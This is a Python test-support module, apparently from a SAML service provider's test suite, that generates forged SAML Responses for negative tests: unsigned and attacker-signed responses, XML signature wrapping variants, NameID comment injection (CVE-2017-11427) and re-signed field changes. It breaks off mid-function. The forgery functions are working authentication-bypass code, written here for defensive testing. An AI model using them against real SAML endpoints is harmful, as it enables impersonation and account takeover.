"""Hostile SAML Responses for the service provider's negative tests.

Each function takes the base64 ``SAMLResponse`` of a GOOD response (from the samlify IdP of
``tests/support/saml_idp.py``: ``complete_sso`` or ``idp_initiated``) and returns the base64 of a
forgery, built so that a naive SP would accept it: where a signature is meant to hold, it holds
for ``xmlsec1 --verify`` (``tests/doubles/test_saml_forge.py`` proves each one). POST the
result to the SP's ACS with the original ``RelayState`` and check that it is refused::

    with start_saml_idp(sp=..., users=..., idp={"expose_key_for_tests": True}) as idp:
        acs, form = complete_sso(http, redirect_to_idp, "alice")
        forged = saml_forge.with_changed(
            form["SAMLResponse"], idp.key_pem, idp.cert_pem, audience="https://other.example"
        )

Forgeries that the IdP "signed" need its private key: start the IdP with
``idp={"expose_key_for_tests": True}`` and pass ``idp.key_pem`` and ``idp.cert_pem``. Attacker
keys come from :func:`attacker_keypair`.

What is signed again is what the IdP signed (the ``<saml:Assertion>`` and/or the
``<samlp:Response>``, innermost first, with the same algorithms); when nothing was signed, the
functions that must produce a valid signature sign the assertion (rsa-sha256). Signatures are made
by ``xmlsec1 --sign`` from a template shaped like samlify's: enveloped, exclusive c14n, the
signing certificate in ``KeyInfo``, placed after the element's ``<saml:Issuer>``.

The forgeries need a plaintext ``<saml:Assertion>``; an ``<saml:EncryptedAssertion>`` raises
ValueError (except for :func:`unsigned`, :func:`with_doctype` and :func:`oversize`).

XML signature wrapping (XSW; names after Somorovsky et al., "On Breaking SAML", 2012) comes in the
variants listed by :func:`xsw_variants`. The classic XSW6 and XSW8 (the original element inside
the ``<ds:Signature>`` that references it, e.g. in a ``<ds:Object>``) are left out on purpose:
the enveloped-signature transform then removes the referenced element itself, so no conforming
verifier (xmlsec1 included) accepts them and they would only test a broken XML-DSig library.
"""

from __future__ import annotations

import base64
import datetime as dt
import enum
import secrets
import subprocess
import tempfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal
from xml.dom import minidom

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"

RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_MD5 = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"
RSA_SHA224 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha224"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
MD5 = "http://www.w3.org/2001/04/xmldsig-more#md5"
SHA224 = "http://www.w3.org/2001/04/xmldsig-more#sha224"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
EXC_C14N = "http://www.w3.org/2001/10/xml-exc-c14n#"
ENVELOPED = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"

#: Who the forged assertions claim to be, unless told otherwise.
EVIL_EMAIL = "mallory@evil.example"

#: Attribute names whose values are the user's e-mail (changed along with the NameID).
EMAIL_ATTRIBUTE_NAMES = frozenset(
    {
        "http://schemas.xmlsoap.org/ws/2005/05/identity/claims/emailaddress",
        "urn:oid:0.9.2342.19200300.100.1.3",
        "mail",
        "email",
        "emailAddress",
    }
)

#: ``--node-xpath`` of the signature of the (first) assertion and of the response, for
#: :func:`xmlsec_verify`.
ASSERTION_SIGNATURE = (
    "/*[local-name()='Response']/*[local-name()='Assertion'][1]/*[local-name()='Signature']"
)
RESPONSE_SIGNATURE = "/*[local-name()='Response']/*[local-name()='Signature']"

XMLSEC_TIMEOUT = 30.0
_ID_ATTRS = (
    "--id-attr:ID",
    f"{SAMLP}:Response",
    "--id-attr:ID",
    f"{SAML}:Assertion",
)
# The last signature template still to be signed: an element's signature comes before (in
# document order) those of the elements inside it, so the last template is always innermost.
_NEXT_TEMPLATE = (
    f"(//*[local-name()='Signature' and namespace-uri()='{DS}']"
    "[*[local-name()='SignatureValue' and normalize-space()='']])[last()]"
)


class _Remove(enum.Enum):
    REMOVE = "remove"


#: Pass as a :func:`with_changed` attribute value to remove that attribute.
REMOVE = _Remove.REMOVE

Instant = str | dt.datetime


@dataclass(frozen=True)
class KeyPair:
    """An RSA private key and its self-signed certificate, both PEM."""

    key_pem: str
    cert_pem: str


@dataclass(frozen=True)
class _Algorithms:
    signature: str
    digest: str


_DEFAULT_ALGORITHMS = _Algorithms(RSA_SHA256, SHA256)
_SHA1_ALGORITHMS = _Algorithms(RSA_SHA1, SHA1)


def attacker_keypair(common_name: str = "attacker", *, impersonating: str | None = None) -> KeyPair:
    """A fresh RSA-2048 key and self-signed certificate. ``impersonating`` (a certificate PEM,
    e.g. the IdP's) copies its subject, issuer and serial number, so only the key differs: an SP
    that matches the KeyInfo certificate by name or serial rather than by key accepts it."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    now = dt.datetime.now(dt.UTC)
    subject = issuer = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    serial = x509.random_serial_number()
    if impersonating is not None:
        model = x509.load_pem_x509_certificate(impersonating.encode())
        subject, issuer, serial = model.subject, model.issuer, model.serial_number
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(issuer)
        .public_key(key.public_key())
        .serial_number(serial)
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=30))
        .sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    ).decode()
    return KeyPair(key_pem, cert.public_bytes(serialization.Encoding.PEM).decode())


# -- encoding ------------------------------------------------------------------------------------


def decode(resp: str) -> str:
    """The XML of a base64 ``SAMLResponse``."""
    return base64.b64decode(resp).decode("utf-8")


def encode(xml: str) -> str:
    """The base64 ``SAMLResponse`` of some XML."""
    return base64.b64encode(xml.encode("utf-8")).decode("ascii")


def _parse(xml: str) -> minidom.Document:
    # The input is our own test IdP's output (or a forgery of it), never a stranger's.
    return minidom.parseString(xml.encode("utf-8"))  # noqa: S318


def _serialize(doc: minidom.Document) -> str:
    """The document without an XML declaration (as samlify writes it)."""
    return _root(doc).toxml()


def _root(doc: minidom.Document) -> minidom.Element:
    root = doc.documentElement
    assert root is not None
    return root


def _owner(node: minidom.Element) -> minidom.Document:
    doc = node.ownerDocument
    assert doc is not None
    return doc


def _insert(parent: minidom.Element, node: minidom.Node, before: minidom.Node | None) -> None:
    """``parent.insertBefore`` (``before`` None: append), without typeshed's node-kind unions."""
    insert: Any = parent.insertBefore
    insert(node, before)


# -- DOM helpers ---------------------------------------------------------------------------------


def _elements(parent: minidom.Node, ns: str, local: str) -> list[minidom.Element]:
    """The element children of ``parent`` named ``{ns}local``."""
    return [
        child
        for child in parent.childNodes
        if isinstance(child, minidom.Element)
        and child.namespaceURI == ns
        and child.localName == local
    ]


def _child(parent: minidom.Node, ns: str, local: str) -> minidom.Element | None:
    found = _elements(parent, ns, local)
    return found[0] if found else None


def _descendants(parent: minidom.Element, ns: str, local: str) -> list[minidom.Element]:
    return list(parent.getElementsByTagNameNS(ns, local))


def _response(doc: minidom.Document) -> minidom.Element:
    root = _root(doc)
    if root.namespaceURI != SAMLP or root.localName != "Response":
        raise ValueError(f"not a samlp:Response but {root.tagName}")
    return root


def _assertions(doc: minidom.Document) -> list[minidom.Element]:
    """The response's assertions; ValueError when it has none in plaintext."""
    response = _response(doc)
    found = _elements(response, SAML, "Assertion")
    if not found:
        if _elements(response, SAML, "EncryptedAssertion"):
            raise ValueError(
                "the response has an EncryptedAssertion: forge from a plaintext assertion"
            )
        raise ValueError("the response has no saml:Assertion")
    return found


def _assertion(doc: minidom.Document) -> minidom.Element:
    return _assertions(doc)[0]


def _set_text(element: minidom.Element, text: str) -> None:
    for child in list(element.childNodes):
        element.removeChild(child)
    element.appendChild(_owner(element).createTextNode(text))


def _text(element: minidom.Element) -> str:
    return "".join(child.data for child in element.childNodes if isinstance(child, minidom.Text))


def _insert_after_issuer(parent: minidom.Element, node: minidom.Node) -> None:
    """Put ``node`` right after ``parent``'s ``<saml:Issuer>`` (first if it has none)."""
    issuer = _child(parent, SAML, "Issuer")
    reference = issuer.nextSibling if issuer is not None else parent.firstChild
    _insert(parent, node, reference)


def _import(doc: minidom.Document, fragment: str) -> minidom.Element:
    """A new element of ``doc`` from XML text (with its own namespace declarations)."""
    imported = doc.importNode(_root(_parse(fragment)), True)
    assert isinstance(imported, minidom.Element)
    return imported


def _new_id() -> str:
    return f"_{secrets.token_hex(20)}"


def _name_id(assertion: minidom.Element) -> minidom.Element:
    subject = _child(assertion, SAML, "Subject")
    name_id = None if subject is None else _child(subject, SAML, "NameID")
    if name_id is None:
        raise ValueError("the assertion has no saml:Subject/saml:NameID")
    return name_id


def _email_values(assertion: minidom.Element, name_id_text: str) -> list[minidom.Element]:
    """The AttributeValues that carry the user's e-mail: those of an e-mail attribute, and any
    value equal to the NameID."""
    values = []
    for attribute in _descendants(assertion, SAML, "Attribute"):
        is_email = attribute.getAttribute("Name") in EMAIL_ATTRIBUTE_NAMES
        for value in _elements(attribute, SAML, "AttributeValue"):
            if is_email or _text(value) == name_id_text:
                values.append(value)
    return values


def _set_identity(assertion: minidom.Element, identity: str) -> None:
    """The assertion names ``identity`` instead: its NameID and e-mail attribute values."""
    name_id = _name_id(assertion)
    for value in _email_values(assertion, _text(name_id)):
        _set_text(value, identity)
    _set_text(name_id, identity)


def _strip_signature(element: minidom.Element) -> minidom.Element | None:
    """Remove ``element``'s own ``<ds:Signature>`` child and return it."""
    signature = _child(element, DS, "Signature")
    if signature is not None:
        element.removeChild(signature)
    return signature


def _evil_copy(
    assertion: minidom.Element, identity: str, *, same_id: bool = False
) -> minidom.Element:
    """An unsigned copy of ``assertion`` naming ``identity``, with a new ID unless ``same_id``."""
    copy = assertion.cloneNode(True)
    assert isinstance(copy, minidom.Element)
    _strip_signature(copy)
    if not same_id:
        copy.setAttribute("ID", _new_id())
    _set_identity(copy, identity)
    return copy


def _algorithms(element: minidom.Element) -> _Algorithms | None:
    """The algorithms of ``element``'s own signature, if it has one."""
    signature = _child(element, DS, "Signature")
    if signature is None:
        return None
    methods = {
        local: _descendants(signature, DS, local) for local in ("SignatureMethod", "DigestMethod")
    }
    if not methods["SignatureMethod"] or not methods["DigestMethod"]:
        raise ValueError(f"a ds:Signature of {element.tagName} without its methods")
    return _Algorithms(
        methods["SignatureMethod"][0].getAttribute("Algorithm"),
        methods["DigestMethod"][0].getAttribute("Algorithm"),
    )


def _signed_parts(doc: minidom.Document) -> list[tuple[minidom.Element, _Algorithms]]:
    """The response and its assertions that carry their own signature, with its algorithms."""
    response = _response(doc)
    parts = []
    for element in [response, *_elements(response, SAML, "Assertion")]:
        algorithms = _algorithms(element)
        if algorithms is not None:
            parts.append((element, algorithms))
    return parts


def _signing_plan(
    doc: minidom.Document, *, algorithms: _Algorithms | None = None
) -> list[tuple[minidom.Element, _Algorithms]]:
    """What to sign again: what was signed, or the assertions when nothing was."""
    plan = _signed_parts(doc)
    if not plan:
        plan = [(assertion, _DEFAULT_ALGORITHMS) for assertion in _assertions(doc)]
    if algorithms is not None:
        plan = [(element, algorithms) for element, _ in plan]
    return plan


# -- signing and verifying with xmlsec1 ----------------------------------------------------------


def _cert_base64(cert_pem: str) -> str:
    return "".join(
        line.strip() for line in cert_pem.splitlines() if line and not line.startswith("-----")
    )


def _template(element_id: str, algorithms: _Algorithms, cert: str) -> str:
    return (
        f'<ds:Signature xmlns:ds="{DS}"><ds:SignedInfo>'
        f'<ds:CanonicalizationMethod Algorithm="{EXC_C14N}"/>'
        f'<ds:SignatureMethod Algorithm="{algorithms.signature}"/>'
        f'<ds:Reference URI="#{element_id}"><ds:Transforms>'
        f'<ds:Transform Algorithm="{ENVELOPED}"/><ds:Transform Algorithm="{EXC_C14N}"/>'
        f'</ds:Transforms><ds:DigestMethod Algorithm="{algorithms.digest}"/>'
        "<ds:DigestValue></ds:DigestValue></ds:Reference></ds:SignedInfo>"
        "<ds:SignatureValue></ds:SignatureValue>"
        f"<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{_cert_base64(cert)}"
        "</ds:X509Certificate></ds:X509Data></ds:KeyInfo></ds:Signature>"
    )


def _xmlsec(arguments: list[str], xml: str, extra_files: dict[str, str]) -> tuple[int, str, str]:
    """Run ``xmlsec1`` on ``xml`` (the last argument) in a scratch directory; ``extra_files``
    are written there too and their names stand for their paths in ``arguments``. Returns the
    exit code, stderr and what ``--output out.xml`` wrote (if anything)."""
    with tempfile.TemporaryDirectory(prefix="saml-forge-") as scratch:
        directory = Path(scratch)
        (directory / "message.xml").write_text(xml, encoding="utf-8")
        for name, content in extra_files.items():
            (directory / name).write_text(content, encoding="utf-8")
        paths = {name: str(directory / name) for name in [*extra_files, "out.xml"]}
        command = ["xmlsec1", *(paths.get(arg, arg) for arg in arguments)]
        result = subprocess.run(
            [*command, str(directory / "message.xml")],
            capture_output=True,
            text=True,
            timeout=XMLSEC_TIMEOUT,
            check=False,
        )
        output = directory / "out.xml"
        written = output.read_text(encoding="utf-8") if output.exists() else ""
    return result.returncode, result.stderr, written


def _sign(
    doc: minidom.Document,
    key_pem: str,
    cert_pem: str,
    plan: list[tuple[minidom.Element, _Algorithms]],
) -> minidom.Document:
    """Replace the signature of each element of ``plan`` by a new one made with ``key_pem`` (and
    ``cert_pem`` in KeyInfo), at the same place or after the element's Issuer."""
    for element, algorithms in plan:
        element_id = element.getAttribute("ID")
        if not element_id:
            raise ValueError(f"cannot sign {element.tagName}: it has no ID")
        template = _import(doc, _template(element_id, algorithms, cert_pem))
        old = _child(element, DS, "Signature")
        if old is not None:
            element.replaceChild(template, old)
        else:
            _insert_after_issuer(element, template)
    xml = _serialize(doc)
    for _ in plan:  # innermost first: see _NEXT_TEMPLATE
        code, stderr, xml = _xmlsec(
            [
                *("--sign", "--privkey-pem", "key.pem", *_ID_ATTRS),
                *("--node-xpath", _NEXT_TEMPLATE, "--output", "out.xml"),
            ],
            xml,
            {"key.pem": key_pem},
        )
        if code != 0:
            raise RuntimeError(f"xmlsec1 --sign failed (exit {code}):\n{stderr}")
    return _parse(xml)


def xmlsec_verify(xml: str, cert_pem: str | None, signature_xpath: str) -> bool:
    """Whether the ``<ds:Signature>`` selected by ``signature_xpath`` verifies, as pysaml2 calls
    ``xmlsec1``: with only ``cert_pem`` (the KeyInfo certificate ignored), or, when ``cert_pem``
    is None, as a naive SP that trusts whatever certificate the signature's KeyInfo carries.

    ``xml`` is the decoded XML (see :func:`decode`). A document whose IDs repeat does not load
    in xmlsec1, so it never verifies here (see :func:`xsw_duplicated_assertion`)."""
    if cert_pem is None:
        keys = ["--insecure", "--enabled-key-data", "x509"]
        files: dict[str, str] = {}
    else:
        keys = ["--enabled-key-data", "raw-x509-cert", "--pubkey-cert-pem", "trusted.pem"]
        files = {"trusted.pem": cert_pem}
    code, _, _ = _xmlsec(
        [
            *("--verify", "--enabled-reference-uris", "empty,same-doc", *keys, *_ID_ATTRS),
            *("--node-xpath", signature_xpath),
        ],
        xml,
        files,
    )
    return code == 0


def signature_xpath(n: int) -> str:
    """``--node-xpath`` of the ``n``-th ``<ds:Signature>`` of a document (from 1, in document
    order), wherever it is."""
    return f"(//*[local-name()='Signature' and namespace-uri()='{DS}'])[{n}]"


def verified_references(xml: str, cert_pem: str | None) -> list[str]:
    """The IDs referenced (``URI="#..."``) by the signatures of ``xml`` that verify with
    ``cert_pem`` (None: with their own KeyInfo certificate), in document order."""
    doc = _parse(xml)
    references = [
        (n, found[0].getAttribute("URI").removeprefix("#"))
        for n, signature in enumerate(_descendants(_root(doc), DS, "Signature"), start=1)
        if (found := _descendants(signature, DS, "Reference"))
    ]
    with ThreadPoolExecutor(max_workers=max(1, len(references))) as pool:
        results = list(
            pool.map(lambda ref: xmlsec_verify(xml, cert_pem, signature_xpath(ref[0])), references)
        )
    return [uri for (_, uri), verified in zip(references, results, strict=True) if verified]


# -- 1-3: no signature, or somebody else's -------------------------------------------------------


def unsigned(resp: str, *, only: Literal["response", "assertion"] | None = None) -> str:
    """Every ``<ds:Signature>`` removed (of the response and of its assertions). ``only``
    removes just the response's (an SP that wants both signed must refuse) or just the
    assertions' (any response signature then fails too: it covered them)."""
    doc = _parse(decode(resp))
    response = _response(doc)
    if only in (None, "response"):
        _strip_signature(response)
    if only in (None, "assertion"):
        for assertion in _elements(response, SAML, "Assertion"):
            _strip_signature(assertion)
    return encode(_serialize(doc))


def signed_by_other_key(resp: str, key_pem: str, cert_pem: str) -> str:
    """The response as the IdP made it, but every signature (or the assertion's, if nothing
    was signed) made again with an attacker's key, its certificate in KeyInfo: only an SP that
    verifies against the IdP's configured certificate refuses it."""
    doc = _parse(decode(resp))
    return encode(_serialize(_sign(doc, key_pem, cert_pem, _signing_plan(doc))))


def key_in_keyinfo(resp: str, key_pem: str, cert_pem: str, *, identity: str = EVIL_EMAIL) -> str:
    """An assertion the attacker wrote (naming ``identity``: NameID and e-mail attribute),
    signed with the attacker's key whose certificate is embedded in KeyInfo: an SP that trusts
    the KeyInfo certificate (rather than the IdP's metadata) logs the attacker in as anyone.
    With ``attacker_keypair(impersonating=idp.cert_pem)`` the certificate even carries the
    IdP's subject and serial number."""
    doc = _parse(decode(resp))
    for assertion in _assertions(doc):
        _set_identity(assertion, identity)
    return encode(_serialize(_sign(doc, key_pem, cert_pem, _signing_plan(doc))))


# -- 4: XML signature wrapping -------------------------------------------------------------------


def _require_signed_assertion(doc: minidom.Document) -> minidom.Element:
    assertion = _assertion(doc)
    if _child(assertion, DS, "Signature") is None:
        raise ValueError("XSW on the assertion needs a response whose assertion is signed")
    return assertion


def _extensions(response: minidom.Element) -> minidom.Element:
    """The response's ``<samlp:Extensions>``, made (after Issuer and Signature) if need be."""
    existing = _child(response, SAMLP, "Extensions")
    if existing is not None:
        return existing
    prefix = response.prefix
    extensions = _owner(response).createElementNS(
        SAMLP, f"{prefix}:Extensions" if prefix else "Extensions"
    )
    _insert(response, extensions, _child(response, SAMLP, "Status"))
    return extensions


_Into = Literal["extensions", "status_detail", "wrapper", "evil_assertion"]
_Place = Literal["after", "extensions"]
_PLACES: tuple[_Place, ...] = ("after", "extensions")


def xsw_moved_assertion(
    resp: str,
    *,
    into: _Into = "extensions",
    identity: str = EVIL_EMAIL,
) -> str:
    """The signed original assertion, intact (its signature still verifies), moved out of the
    way; an unsigned evil assertion naming ``identity`` (new ID) stands where the SP reads
    ``Response/Assertion``. Attacks an SP that checks "a valid signature is somewhere" or "the
    signed assertion is in the document" but reads another one.

    ``into``: ``"extensions"`` (XSW7: ``<samlp:Extensions>`` of the response),
    ``"status_detail"`` (``<samlp:Status>/<samlp:StatusDetail>``, whose schema takes any
    element), ``"wrapper"`` (an element of a foreign namespace after the evil assertion) or
    ``"evil_assertion"`` (XSW4: the last child of the evil assertion). A response signature is
    dropped (it could no longer verify): the target is an SP that wants only the assertion
    signed."""
    doc = _parse(decode(resp))
    response = _response(doc)
    original = _require_signed_assertion(doc)
    _strip_signature(response)
    evil = _evil_copy(original, identity)
    response.replaceChild(evil, original)
    if into == "extensions":
        _extensions(response).appendChild(original)
    elif into == "status_detail":
        status = _child(response, SAMLP, "Status")
        if status is None:
            raise ValueError("the response has no samlp:Status")
        detail = _child(status, SAMLP, "StatusDetail")
        if detail is None:
            prefix = status.prefix
            detail = doc.createElementNS(
                SAMLP, f"{prefix}:StatusDetail" if prefix else "StatusDetail"
            )
            status.appendChild(detail)
        detail.appendChild(original)
    elif into == "wrapper":
        wrapper = _import(doc, '<w:Wrapper xmlns:w="urn:example:wrapper"/>')
        wrapper.appendChild(original)
        _insert(response, wrapper, evil.nextSibling)
    elif into == "evil_assertion":
        evil.appendChild(original)
    else:
        raise ValueError(f"unknown place {into!r}")
    return encode(_serialize(doc))


def xsw_duplicated_assertion(
    resp: str,
    *,
    position: Literal["before", "after"] = "before",
    same_id: bool = False,
    identity: str = EVIL_EMAIL,
) -> str:
    """XSW3: an unsigned evil assertion naming ``identity`` beside the signed original (left
    as it was, signature valid), ``position`` before it (an SP that reads the first assertion)
    or after it (one that reads the last, or overwrites as it goes).

    ``same_id`` gives the evil assertion the original's ID: an SP that checks "the signature
    references the ID of the assertion I read" is satisfied, and one that finds the signed
    element by ID (``//*[@ID=...]``, the first one) may read the evil one. xmlsec1 refuses to
    load a document with a repeated ID, so that variant only verifies where the signed
    assertion is checked on its own (as some libraries do). A response signature is dropped."""
    doc = _parse(decode(resp))
    response = _response(doc)
    original = _require_signed_assertion(doc)
    _strip_signature(response)
    evil = _evil_copy(original, identity, same_id=same_id)
    _insert(response, evil, original if position == "before" else original.nextSibling)
    return encode(_serialize(doc))


def xsw_signed_element_elsewhere(
    resp: str,
    *,
    signature: Literal["assertion", "response"] = "assertion",
    place: _Place = "after",
    identity: str = EVIL_EMAIL,
) -> str:
    """A signature moved onto the element the SP reads, while its ``Reference`` still points
    at the original, now unsigned and put elsewhere: the signature verifies, over the wrong
    element. Attacks an SP that checks "the element I read has a valid ``<ds:Signature>``
    child" without checking that the Reference URI is that element's ID.

    ``signature="assertion"`` (XSW5): the evil assertion (new ID, naming ``identity``) carries
    the original assertion's signature; the original assertion, without it, goes ``"after"``
    the evil one (last child of the response) or into the response's ``<samlp:Extensions>``.
    A response signature is dropped.

    ``signature="response"`` (XSW1/XSW2, needs a signed response): an evil response (new ID,
    evil unsigned assertion) carries the original response's signature; the original response,
    without it, goes ``"after"`` (last child of the evil response) or into its
    ``<samlp:Extensions>``. Not inside the signature (classic XSW1): see the module docstring.
    """
    doc = _parse(decode(resp))
    response = _response(doc)
    if signature == "assertion":
        original = _require_signed_assertion(doc)
        _strip_signature(response)
        evil = _evil_copy(original, identity)
        moved = _strip_signature(original)
        assert moved is not None
        _insert_after_issuer(evil, moved)
        response.replaceChild(evil, original)
        if place == "after":
            _insert(response, original, evil.nextSibling)
        else:
            _extensions(response).appendChild(original)
        return encode(_serialize(doc))
    if _child(response, DS, "Signature") is None:
        raise ValueError("XSW on the response signature needs a signed response")
    evil_response = response.cloneNode(True)
    assert isinstance(evil_response, minidom.Element)
    evil_response.setAttribute("ID", _new_id())
    for assertion in _elements(evil_response, SAML, "Assertion"):
        evil_response.replaceChild(_evil_copy(assertion, identity), assertion)
    _strip_signature(response)  # the copy keeps it, pointing at the original's ID
    doc.replaceChild(evil_response, response)
    if place == "after":
        evil_response.appendChild(response)
    else:
        _extensions(evil_response).appendChild(response)
    return encode(_serialize(doc))


def xsw_variants(resp: str, *, identity: str = EVIL_EMAIL) -> dict[str, str]:
    """Every XSW variant that applies to ``resp`` (those on the response signature need a
    signed response), by a name for ``pytest.mark.parametrize`` ids."""
    doc = _parse(decode(resp))
    variants: dict[str, str] = {}
    if _child(_assertion(doc), DS, "Signature") is not None:
        intos: tuple[_Into, ...] = ("extensions", "status_detail", "wrapper", "evil_assertion")
        for into in intos:
            variants[f"signed_assertion_in_{into}"] = xsw_moved_assertion(
                resp, into=into, identity=identity
            )
        positions: tuple[Literal["before", "after"], ...] = ("before", "after")
        for position in positions:
            for same_id in (False, True):
                name = f"evil_assertion_{position}{'_same_id' if same_id else ''}"
                variants[name] = xsw_duplicated_assertion(
                    resp, position=position, same_id=same_id, identity=identity
                )
        for place in _PLACES:
            variants[f"assertion_signature_on_evil_original_{place}"] = (
                xsw_signed_element_elsewhere(
                    resp, signature="assertion", place=place, identity=identity
                )
            )
    if _child(_response(doc), DS, "Signature") is not None:
        for place in _PLACES:
            variants[f"response_signature_on_evil_original_{place}"] = xsw_signed_element_elsewhere(
                resp, signature="response", place=place, identity=identity
            )
    return variants


# -- 5-7, 9: signed by the IdP itself ------------------------------------------------------------


def comment_in_nameid(
    resp: str,
    idp_key_pem: str,
    idp_cert_pem: str,
    *,
    victim: str | None = None,
    suffix: str = ".evil.example",
) -> str:
    """The 2018 comment-injection (Duo, CVE-2017-11427 and kin): the attacker's own account is
    ``victim + suffix`` (``alice@example.com.evil.example``), which the IdP signs; the attacker
    then writes ``alice@example.com<!---->.evil.example`` into the NameID and e-mail values.
    Canonicalization drops comments, so every signature still verifies; an SP that reads only
    the first text node logs in as ``victim`` (default: the response's NameID)."""
    doc = _parse(decode(resp))
    assertions = _assertions(doc)
    victim = victim if victim is not None else _text(_name_id(assertions[0]))
    for assertion in assertions:
        _set_identity(assertion, victim + suffix)
    doc = _sign(doc, idp_key_pem, idp_cert_pem, _signing_plan(doc))
    for assertion in _assertions(doc):
        name_id = _name_id(assertion)
        for element in [*_email_values(assertion, _text(name_id)), name_id]:
            _set_text(element, victim)
            element.appendChild(doc.createComment(""))
            element.appendChild(doc.createTextNode(suffix))
    return encode(_serialize(doc))


def two_assertions(
    resp: str, idp_key_pem: str, idp_cert_pem: str, *, identity: str = EVIL_EMAIL
) -> str:
    """Two assertions, each validly signed by the IdP: the original and, after it, a copy with
    a new ID naming ``identity``; the response signed again if it was. An SP must refuse a
    response with more than one assertion rather than pick one."""
    doc = _parse(decode(resp))
    original = _assertion(doc)
    algorithms = _algorithms(original) or next(
        (a for _, a in _signed_parts(doc)), _DEFAULT_ALGORITHMS
    )
    evil = _evil_copy(original, identity)
    _insert(_response(doc), evil, original.nextSibling)
    plan = [(original, algorithms), (evil, algorithms)]
    response = _response(doc)
    response_algorithms = _algorithms(response)
    if response_algorithms is not None:
        plan.append((response, response_algorithms))
    return encode(_serialize(_sign(doc, idp_key_pem, idp_cert_pem, plan)))


def _instant(value: Instant) -> str:
    if isinstance(value, dt.datetime):
        if value.tzinfo is None:
            raise ValueError("give an aware datetime (e.g. datetime.now(UTC))")
        return value.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    return value


def _set_attribute(element: minidom.Element, name: str, value: str | _Remove) -> None:
    if value is REMOVE:
        if element.hasAttribute(name):
            element.removeAttribute(name)
    else:
        assert isinstance(value, str)
        element.setAttribute(name, value)


def _confirmation_data(assertion: minidom.Element) -> list[minidom.Element]:
    return _descendants(assertion, SAML, "SubjectConfirmationData")


def with_changed(
    resp: str,
    idp_key_pem: str,
    idp_cert_pem: str,
    *,
    audience: str | _Remove | None = None,
    destination: str | _Remove | None = None,
    recipient: str | _Remove | None = None,
    issuer: str | None = None,
    not_before: Instant | _Remove | None = None,
    not_on_or_after: Instant | _Remove | None = None,
    confirmation_not_on_or_after: Instant | _Remove | None = None,
    in_response_to: str | _Remove | None = None,
    issue_instant: Instant | None = None,
    name_id: str | None = None,
    email: str | None = None,
    status: str | None = None,
    status_message: str | None = None,
) -> str:
    """The response with the given fields changed and then signed again by the IdP (what was
    signed, same algorithms), so that only the check of that field can refuse it. ``None``
    leaves a field as it is; :data:`REMOVE` removes an attribute; instants are ISO strings or
    aware datetimes. With no change at all it is a faithful re-signing: the positive control
    that shows re-signing alone does not make the SP refuse.

    - ``audience``: every ``<saml:Audience>``; REMOVE removes every ``<saml:AudienceRestriction>``
      (the assertion then names no audience at all).
    - ``destination``: ``Response/@Destination``.
    - ``recipient``: ``SubjectConfirmationData/@Recipient``.
    - ``issuer``: the ``<saml:Issuer>`` of the response and of the assertion.
    - ``not_before`` / ``not_on_or_after``: ``Conditions/@NotBefore`` / ``@NotOnOrAfter``.
    - ``confirmation_not_on_or_after``: ``SubjectConfirmationData/@NotOnOrAfter`` (for an
      expired assertion set it and ``not_on_or_after``; each alone tests one check).
    - ``in_response_to``: ``Response/@InResponseTo`` and ``SubjectConfirmationData/
      @InResponseTo`` (added to an unsolicited response; REMOVE makes it unsolicited).
    - ``issue_instant``: ``@IssueInstant`` of the response and the assertion.
    - ``name_id``: the NameID's text; ``email``: the e-mail attribute values.
    - ``status``: the top-level ``StatusCode/@Value`` (e.g. ``...:status:Responder``).
    - ``status_message``: the ``<samlp:StatusMessage>`` text (added if there is none).
    """
    doc = _parse(decode(resp))
    response = _response(doc)
    assertions = _assertions(doc)
    if destination is not None:
        _set_attribute(response, "Destination", destination)
    if issue_instant is not None:
        for element in [response, *assertions]:
            element.setAttribute("IssueInstant", _instant(issue_instant))
    if in_response_to is not None:
        _set_attribute(response, "InResponseTo", in_response_to)
    if issuer is not None:
        for element in [response, *assertions]:
            issuer_element = _child(element, SAML, "Issuer")
            if issuer_element is None:
                raise ValueError(f"{element.tagName} has no saml:Issuer")
            _set_text(issuer_element, issuer)
    if status is not None:
        status_element = _child(response, SAMLP, "Status")
        code = None if status_element is None else _child(status_element, SAMLP, "StatusCode")
        if code is None:
            raise ValueError("the response has no samlp:Status/samlp:StatusCode")
        code.setAttribute("Value", status)
    if status_message is not None:
        status_element = _child(response, SAMLP, "Status")
        if status_element is None:
            raise ValueError("the response has no samlp:Status")
        message = _child(status_element, SAMLP, "StatusMessage")
        if message is None:
            prefix = status_element.prefix
            message = doc.createElementNS(
                SAMLP, f"{prefix}:StatusMessage" if prefix else "StatusMessage"
            )
            _insert(status_element, message, _child(status_element, SAMLP, "StatusDetail"))
        _set_text(message, status_message)
    for assertion in assertions:
        conditions = _child(assertion, SAML, "Conditions")
        for name, value in (("NotBefore", not_before), ("NotOnOrAfter", not_on_or_after)):
            if value is not None:
                if conditions is None:
                    raise ValueError("the assertion has no saml:Conditions")
                _set_attribute(conditions, name, value if value is REMOVE else _instant(value))
        if audience is REMOVE:
            restrictions = _descendants(assertion, SAML, "AudienceRestriction")
            if not restrictions:
                raise ValueError("the assertion has no saml:AudienceRestriction")
            for element in restrictions:
                parent = element.parentNode
                assert parent is not None
                parent.removeChild(element)
        elif audience is not None:
            assert isinstance(audience, str)
